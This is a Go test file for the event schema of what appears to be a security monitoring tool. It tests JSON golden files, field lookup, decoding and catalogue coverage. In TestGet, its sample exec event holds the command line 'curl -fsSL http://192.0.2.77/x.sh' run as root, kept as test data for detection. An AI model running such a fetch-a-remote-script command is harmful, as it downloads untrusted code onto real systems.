package event

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite testdata/*.json from the samples")

// MustMarshal returns the indented JSON of e.
func MustMarshal(tb testing.TB, e *Event) []byte {
	tb.Helper()
	b, err := json.MarshalIndent(e, "", "  ")
	if err != nil {
		tb.Fatalf("marshal: %v", err)
	}
	return append(b, '\n')
}

func TestGolden(t *testing.T) {
	for name, want := range samples() {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join("testdata", name+".json")
			got := MustMarshal(t, &want)
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			golden, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("read golden (run with -update): %v", err)
			}
			if !bytes.Equal(got, golden) {
				t.Errorf("marshal differs from %s (run with -update after checking):\n%s", path, got)
			}
			dec, err := Decode(golden)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(dec, want) {
				t.Errorf("round trip differs:\n got %+v\nwant %+v", dec, want)
			}
			if err := dec.Validate(); err != nil {
				t.Errorf("sample does not validate: %v", err)
			}
		})
	}
}

// TestCatalogueCovered checks that every kind and every action row of the
// catalogue has a sample of the right shape.
func TestCatalogueCovered(t *testing.T) {
	kinds := map[string]bool{}
	categories := map[string]bool{}
	for _, e := range samples() {
		kinds[e.Event.Kind] = true
		for _, c := range e.Event.Category {
			categories[c] = true
		}
	}
	for _, k := range []string{KindEvent, KindState, KindAlert, KindMetric} {
		if !kinds[k] {
			t.Errorf("no sample of kind %q", k)
		}
	}
	for _, s := range Catalogue() {
		if !categories[s.Category] {
			t.Errorf("no sample with category %q (action %q)", s.Category, s.Action)
		}
	}
}

func TestTimestampFormat(t *testing.T) {
	e := samples()["exec"]
	b := MustMarshal(t, &e)
	if !bytes.Contains(b, []byte(`"@timestamp": "2025-03-14T09:26:53.123456789Z"`)) {
		t.Errorf("timestamp not RFC 3339 with nanoseconds:\n%s", b)
	}
}

func TestZeroValuesSerialised(t *testing.T) {
	e := Event{
		Process: &Process{PID: new(int64(0)), ExitCode: new(int64(0)), ArgsCount: new(int64(0))},
		Source:  &Endpoint{Port: new(int64(0))},
		File:    &File{Size: new(int64(0))},
		Vigil:   &Vigil{Loss: &Loss{}},
	}
	b, err := json.Marshal(&e)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"pid":0`, `"exit_code":0`, `"args_count":0`, `"port":0`, `"size":0`, `"count":0`} {
		if !bytes.Contains(b, []byte(want)) {
			t.Errorf("%s missing from %s", want, b)
		}
	}
	for _, absent := range []string{`"ppid"`, `"message"`, `"host"`, `"@timestamp"`, `"bytes"`} {
		if bytes.Contains(b, []byte(absent)) {
			t.Errorf("%s present in %s", absent, b)
		}
	}
}

// flattenJSON turns decoded JSON into dotted leaf keys; arrays are leaves.
func flattenJSON(prefix string, v any, out map[string]any) {
	obj, ok := v.(map[string]any)
	if !ok {
		out[prefix] = v
		return
	}
	for k, child := range obj {
		p := k
		if prefix != "" {
			p = prefix + "." + k
		}
		flattenJSON(p, child, out)
	}
}

// normalise converts a Get value to what encoding/json decodes it to.
func normalise(tb testing.TB, v any) any {
	tb.Helper()
	switch x := v.(type) {
	case string:
		return x
	case int64:
		return float64(x)
	case time.Time:
		return x.Format(time.RFC3339Nano)
	case []string:
		out := make([]any, len(x))
		for i, s := range x {
			out[i] = s
		}
		return out
	}
	tb.Fatalf("unexpected value type %T", v)
	return nil
}

// checkFieldsMatchJSON asserts that Fields gives exactly the leaves of the
// event's JSON with the same values.
func checkFieldsMatchJSON(t *testing.T, e *Event) {
	t.Helper()
	b, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	var doc any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	want := map[string]any{}
	flattenJSON("", doc, want)
	delete(want, "event") // an empty event object has no leaves
	got := e.Fields()
	for k, v := range got {
		w, ok := want[k]
		if !ok {
			t.Errorf("Fields has %s, JSON has not", k)
			continue
		}
		if n := normalise(t, v); !reflect.DeepEqual(n, w) {
			t.Errorf("%s: Fields %v, JSON %v", k, n, w)
		}
		if gv, ok := e.Get(k); !ok || !reflect.DeepEqual(gv, v) {
			t.Errorf("Get(%s) = %v, %v; Fields has %v", k, gv, ok, v)
		}
	}
	for k := range want {
		if _, ok := got[k]; !ok {
			t.Errorf("JSON has %s, Fields has not", k)
		}
	}
}

func TestFieldsMatchJSON(t *testing.T) {
	for name, e := range samples() {
		t.Run(name, func(t *testing.T) { checkFieldsMatchJSON(t, &e) })
	}
	t.Run("every_field", func(t *testing.T) {
		var e Event
		fill(reflect.ValueOf(&e).Elem(), 0)
		checkFieldsMatchJSON(t, &e)
		got := e.Fields()
		for _, name := range FieldNames() {
			if _, ok := got[name]; !ok {
				t.Errorf("static field %s not set by fill", name)
			}
		}
	})
	t.Run("empty_subobjects", func(t *testing.T) {
		var e Event
		fillEmpty(reflect.ValueOf(&e).Elem(), 0)
		checkFieldsMatchJSON(t, &e)
	})
}

// fill sets every field of v to a non-zero value, recursively, so that every
// leaf of the schema appears in the JSON.
func fill(v reflect.Value, depth int) { Populate(v, depth, at) }

// fillEmpty allocates every sub-object but leaves all leaves zero: only the
// leaves that serialise their zero value (char_device, loss.count) remain.
func fillEmpty(v reflect.Value, depth int) {
	switch v.Kind() {
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			fillEmpty(v.Field(i), depth+1)
		}
	case reflect.Pointer:
		if v.Type().Elem().Kind() == reflect.Struct && depth <= 8 {
			v.Set(reflect.New(v.Type().Elem()))
			fillEmpty(v.Elem(), depth+1)
		}
	}
}

func TestGet(t *testing.T) {
	exec := samples()["exec"]
	tests := []struct {
		path string
		want any
		ok   bool
	}{
		{"process.command_line", "curl -fsSL http://192.0.2.77/x.sh", true},
		{"process.pid", int64(5120), true},
		{"process.args", []string{"curl", "-fsSL", "http://192.0.2.77/x.sh"}, true},
		{"process.parent.executable", "/usr/bin/bash", true},
		{"process.tty.char_device.major", int64(136), true},
		{"process.exit_code", nil, false},
		{"user.audit.name", "alice", true},
		{"user.id", "0", true},
		{"user.target.name", nil, false},
		{"auditd.data.syscall", "execve", true},
		{"auditd.data.a9", nil, false},
		{"auditd.data.", nil, false},
		{"labels.env", "prod", true},
		{"labels.nope", nil, false},
		{"event.category", []string{"process"}, true},
		{"@timestamp", at(0), true},
		{"file.path", nil, false},
		{"no.such.field", nil, false},
		{"process", nil, false},
		{"", nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			got, ok := exec.Get(tt.path)
			if ok != tt.ok || (ok && !reflect.DeepEqual(got, tt.want)) {
				t.Errorf("Get(%q) = %v, %v; want %v, %v", tt.path, got, ok, tt.want, tt.ok)
			}
		})
	}
	health := samples()["collector_health"]
	if v, ok := health.Get("vigil.collector.counters.dropped"); !ok || v != int64(0) {
		t.Errorf("counters.dropped = %v, %v; want 0, true", v, ok)
	}
	exit := samples()["exit"]
	if v, ok := exit.Get("process.exit_code"); !ok || v != int64(0) {
		t.Errorf("exit_code = %v, %v; want 0, true", v, ok)
	}
}

func TestKnownField(t *testing.T) {
	for path, want := range map[string]bool{
		"process.command_line": true, "vigil.file.previous.hash.sha256": true,
		"auditd.data.exe": true, "auditd.data.": false, "labels.x": true,
		"vigil.collector.counters.events": true, "process": false, "proc.name": false,
		"threat.technique.subtechnique.id": true,
	} {
		if got := KnownField(path); got != want {
			t.Errorf("KnownField(%q) = %v, want %v", path, got, want)
		}
	}
	names := FieldNames()
	if !slices.IsSorted(names) || len(names) < 150 {
		t.Errorf("FieldNames: %d names, sorted %v", len(names), slices.IsSorted(names))
	}
}

func TestRangeStops(t *testing.T) {
	e := samples()["exec"]
	n := 0
	e.Range(func(string, any) bool { n++; return n < 3 })
	if n != 3 {
		t.Errorf("Range called fn %d times after stop, want 3", n)
	}
}

func TestDecode(t *testing.T) {
	tests := []struct {
		name, in string
		ok       bool
	}{
		{"object", `{"event":{"id":"x"}}`, true},
		{"unknown_field", `{"event":{"id":"x"},"future":{"a":1}}`, true},
		{"trailing", `{"event":{}} {}`, false},
		{"trailing_garbage", `{"event":{}}x`, false},
		{"not_object", `[1,2]`, false},
		{"wrong_type", `{"process":{"pid":"12"}}`, false},
		{"empty", ``, false},
		{"too_large", `{"message":"` + strings.Repeat("a", MaxEventBytes) + `"}`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Decode([]byte(tt.in))
			if (err == nil) != tt.ok {
				t.Errorf("Decode err = %v, want ok %v", err, tt.ok)
			}
		})
	}
}
